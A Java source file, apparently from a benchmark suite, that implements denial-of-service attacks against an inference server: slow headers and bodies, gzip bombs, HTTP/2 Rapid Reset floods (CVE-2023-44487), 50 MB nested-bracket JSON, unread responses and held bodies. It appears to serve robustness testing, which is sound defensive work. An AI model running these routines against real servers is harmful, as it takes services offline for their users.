package io.maas.benchmarks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;
import java.util.zip.GZIPOutputStream;

/** Ways to treat a server badly, each until it is told to end. */
enum Attack {
    /** 500 connections send the head of a request, a byte a second. */
    SLOW_HEADS {
        @Override
        void run(InetSocketAddress server, String path, BooleanSupplier goes) throws IOException, InterruptedException {
            trickle(server, "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ", goes);
        }
    },

    /** 500 connections send the body of a request, a byte a second after a first KiB. */
    SLOW_BODIES {
        @Override
        void run(InetSocketAddress server, String path, BooleanSupplier goes) throws IOException, InterruptedException {
            trickle(server, head(path, 60 << 20) + " ".repeat(1024), goes);
        }
    },

    /** 20 bodies a second of 1 MiB that unpack to 1 GiB. */
    GZIP_BOMBS {
        @Override
        void run(InetSocketAddress server, String path, BooleanSupplier goes) throws IOException, InterruptedException {
            ByteArrayOutputStream packed = new ByteArrayOutputStream();
            try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
                byte[] nothing = new byte[1 << 20];
                Arrays.fill(nothing, (byte) ' ');
                for (int i = 0; i < 1024; i++) {
                    gzip.write(nothing);
                }
            }
            String head = head(path, packed.size(), "Content-Encoding: gzip");
            while (goes.getAsBoolean()) {
                ask(server, head, packed.toByteArray());
                TimeUnit.MILLISECONDS.sleep(50);
            }
        }
    },

    /** Calls that are given up as soon as they are made (CVE-2023-44487): up to 20,000 a second, on a new connection when one is closed. */
    RAPID_RESET {
        @Override
        void run(InetSocketAddress server, String path, BooleanSupplier goes) throws IOException, InterruptedException {
            while (goes.getAsBoolean()) {
                GrpcDialogue dialogue = new GrpcDialogue(
                        InferRequests.GRPC, () -> new Dialogue.Request(new byte[1], (bytes, from, to) -> true));
                try (SocketChannel channel = open(server)) {
                    boolean isOpen = writeAll(channel, dialogue.opening());
                    for (int stream = 1; isOpen && goes.getAsBoolean(); stream += 2) {
                        isOpen = writeAll(channel, given(dialogue, stream));
                        if (stream % 200 == 1) {
                            TimeUnit.MILLISECONDS.sleep(5);
                        }
                    }
                }
            }
        }

        /** A call and its end, without its message. */
        private ByteBuffer given(GrpcDialogue dialogue, int stream) {
            ByteBuffer call = dialogue.request();
            call.limit(call.limit() - GrpcDialogue.FRAME_HEAD - GrpcDialogue.PREFIX - 1);
            ByteBuffer both = ByteBuffer.allocate(call.remaining() + GrpcDialogue.FRAME_HEAD + 4);
            both.put(call);
            GrpcDialogue.frame(both, 4, GrpcDialogue.RESET, 0, stream);
            return both.putInt(CANCEL).flip();
        }
    },

    /** One document of 50 MB after the other that is nothing but opening brackets. */
    DEEP_JSON {
        @Override
        void run(InetSocketAddress server, String path, BooleanSupplier goes) throws IOException, InterruptedException {
            byte[] brackets = new byte[50 << 20];
            Arrays.fill(brackets, (byte) '[');
            while (goes.getAsBoolean()) {
                ask(server, head(path, brackets.length), brackets);
            }
        }
    },

    /** 200 connections ask for long documents, one after the other, and never read. */
    UNREAD_ANSWERS {
        @Override
        void run(InetSocketAddress server, String path, BooleanSupplier goes) throws IOException, InterruptedException {
            byte[] asked = "GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
                    .repeat(20)
                    .getBytes(StandardCharsets.US_ASCII);
            List<SocketChannel> all = openAll(server, 200);
            while (goes.getAsBoolean()) {
                for (SocketChannel each : all) {
                    var unused = writeSome(each, ByteBuffer.wrap(asked));
                }
                TimeUnit.MILLISECONDS.sleep(100);
            }
            closeAll(all);
        }
    },

    /** 64 connections send 8 MiB of a longer body each, and then nothing. */
    HELD_BODIES {
        @Override
        void run(InetSocketAddress server, String path, BooleanSupplier goes) throws IOException, InterruptedException {
            List<SocketChannel> all = openAll(server, 64);
            byte[] head = head(path, 60 << 20).getBytes(StandardCharsets.US_ASCII);
            all.forEach(each -> begin(each, head));
            byte[] part = new byte[64 << 10];
            for (int i = 0; i < 128 && goes.getAsBoolean(); i++) {
                for (SocketChannel each : all) {
                    var unused = writeSome(each, ByteBuffer.wrap(part));
                }
                TimeUnit.MILLISECONDS.sleep(5);
            }
            while (goes.getAsBoolean()) {
                TimeUnit.MILLISECONDS.sleep(20);
            }
            closeAll(all);
        }
    };

    private static final int CANCEL = 8;
    private static final int SLOW = 500;

    /** Attacks a server's model until it is over. */
    abstract void run(InetSocketAddress server, String path, BooleanSupplier goes)
            throws IOException, InterruptedException;

    private static String head(String path, int length, String... headers) {
        StringBuilder head = new StringBuilder("POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\n");
        for (String each : headers) {
            head.append(each).append("\r\n");
        }
        return head.append("Content-Length: ").append(length).append("\r\n\r\n").toString();
    }

    private static void trickle(InetSocketAddress server, String beginning, BooleanSupplier goes)
            throws IOException, InterruptedException {
        List<SocketChannel> all = openAll(server, SLOW);
        byte[] first = beginning.getBytes(StandardCharsets.US_ASCII);
        all.forEach(each -> begin(each, first));
        for (int i = 0; goes.getAsBoolean(); i++) {
            if (i % 50 == 0) {
                for (int k = 0; k < SLOW; k++) {
                    if (!writeSome(all.get(k), ByteBuffer.wrap(new byte[] {'x'}))) {
                        all.get(k).close(); // Turned out: here is another one.
                        all.set(k, open(server));
                        begin(all.get(k), first);
                    }
                }
            }
            TimeUnit.MILLISECONDS.sleep(20);
        }
        closeAll(all);
    }

    /** One request on a connection of its own; whatever is answered, and if the server hangs up, is right. */
    private static void ask(InetSocketAddress server, String head, byte[] body) {
        try (Socket socket = new Socket(server.getAddress(), server.getPort())) {
            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            socket.getOutputStream().write(body);
            byte[] unused = socket.getInputStream().readNBytes(12);
        } catch (IOException e) {
            // It was hung up on.
        }
    }

    private static SocketChannel open(InetSocketAddress server) throws IOException {
        SocketChannel channel = SocketChannel.open(server);
        channel.configureBlocking(false);
        return channel;
    }

    private static List<SocketChannel> openAll(InetSocketAddress server, int number) throws IOException {
        List<SocketChannel> all = new ArrayList<>();
        for (int i = 0; i < number; i++) {
            all.add(open(server));
        }
        return all;
    }

    private static void begin(SocketChannel channel, byte[] first) {
        var unused = writeSome(channel, ByteBuffer.wrap(first));
    }

    private static void closeAll(List<SocketChannel> all) throws IOException {
        for (SocketChannel each : all) {
            each.close();
        }
    }

    /** What there is room for; false if the other side has closed. */
    private static boolean writeSome(SocketChannel channel, ByteBuffer bytes) {
        try {
            channel.write(bytes);
            return true;
        } catch (IOException e) {
            return false;
        }
    }

    /** All of it, and throws away what was answered; false if the other side has closed. */
    private static boolean writeAll(SocketChannel channel, ByteBuffer bytes) {
        ByteBuffer answered = ByteBuffer.allocate(16 << 10);
        try {
            while (bytes.hasRemaining()) {
                if (channel.write(bytes) == 0) {
                    LockSupport.parkNanos(50_000);
                }
                if (channel.read(answered.clear()) < 0) {
                    return false;
                }
            }
            return true;
        } catch (IOException e) {
            return false;
        }
    }
}
